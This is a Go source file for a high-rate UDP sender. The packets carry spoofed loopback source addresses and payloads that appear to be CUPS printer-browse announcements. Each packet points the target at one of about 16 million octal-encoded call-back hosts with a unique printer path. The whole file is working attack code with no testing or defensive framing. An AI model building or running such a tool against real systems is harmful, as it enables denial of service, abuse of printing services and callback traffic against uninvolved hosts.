package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// sendAll sends n packets as fast as it can, each with a source in 127.0.0.0/8
// (ip(7), IP_PKTINFO), a call-back host, and a path that no other has.
func sendAll(ctx context.Context, to netip.AddrPort, n, size int) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().As4()}); err != nil {
		return os.NewSyscallError("connect", err)
	}
	const most = 64
	type message struct {
		unix.Msghdr
		n uint32
	}
	headers := make([]message, most)
	vectors := make([]unix.Iovec, most)
	packets := make([][]byte, most)
	controls := make([][]byte, most)
	for i := range most {
		packets[i] = bytes.Repeat([]byte("A"), size)
		controls[i] = make([]byte, unix.CmsgSpace(unix.SizeofInet4Pktinfo))
		c := (*unix.Cmsghdr)(unsafe.Pointer(&controls[i][0]))
		c.Level, c.Type = unix.IPPROTO_IP, unix.IP_PKTINFO
		c.SetLen(unix.CmsgLen(unix.SizeofInet4Pktinfo))
		vectors[i].Base = &packets[i][0]
		vectors[i].SetLen(size)
		h := &headers[i]
		h.Iov = &vectors[i]
		h.SetIovlen(1)
		h.Control = &controls[i][0]
		h.SetControllen(len(controls[i]))
	}
	for sent := 0; sent < n; {
		if err := ctx.Err(); err != nil {
			return err
		}
		batch := min(most, n-sent)
		for i := range batch {
			number := uint32(sent + i)
			write(packets[i], number)
			// ipi_spec_dst is the source of what is sent.
			source := controls[i][unix.CmsgLen(0)+4:][:4]
			binary.BigEndian.PutUint32(source, 127<<24|(number+2)&0xffffff)
		}
		got, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&headers[0])), uintptr(batch), 0, 0, 0)
		if errno != 0 && !errors.Is(errno, unix.ENOBUFS) && !errors.Is(errno, unix.EINTR) {
			return fmt.Errorf("send to %s: %w", to, errno)
		}
		if errno == 0 {
			sent += int(got)
		}
	}
	return nil
}

// write begins a packet of which the rest is padding of its path. The call-back
// host is one of 16 millions.
func write(p []byte, number uint32) {
	const head = "0 3 http://011.000.000.000:80/printers/00000000"
	copy(p, head)
	const digits = "0123456789"
	for i, shift := range []int{16, 8, 0} {
		b := byte(number >> shift)
		at := len("0 3 http://011.") + 4*i
		p[at], p[at+1], p[at+2] = digits[b>>6], digits[b>>3&7], digits[b&7] // octal
	}
	for i := range 8 {
		p[len(head)-1-i] = "0123456789abcdef"[number>>(4*i)&15]
	}
}
